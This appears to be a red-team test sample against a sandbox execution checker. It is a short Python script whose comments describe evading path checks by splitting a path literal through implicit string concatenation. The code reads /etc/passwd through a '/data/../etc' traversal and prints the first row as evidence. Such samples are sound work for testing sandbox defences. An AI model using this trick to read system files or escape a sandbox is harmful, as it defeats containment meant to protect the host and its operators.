# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 7 path literal decoded and joined
# source: own
# family: host-path literal escapes - path literal split by implicit concatenation
# goal: read /etc/passwd via /data/. './etc'
# needs-data
import json
import pandas as pd
df = pd.read_csv("/data/." "./etc/passwd", sep=":", header=None)
print(json.dumps({"evidence": str(df.iloc[0].tolist())}))
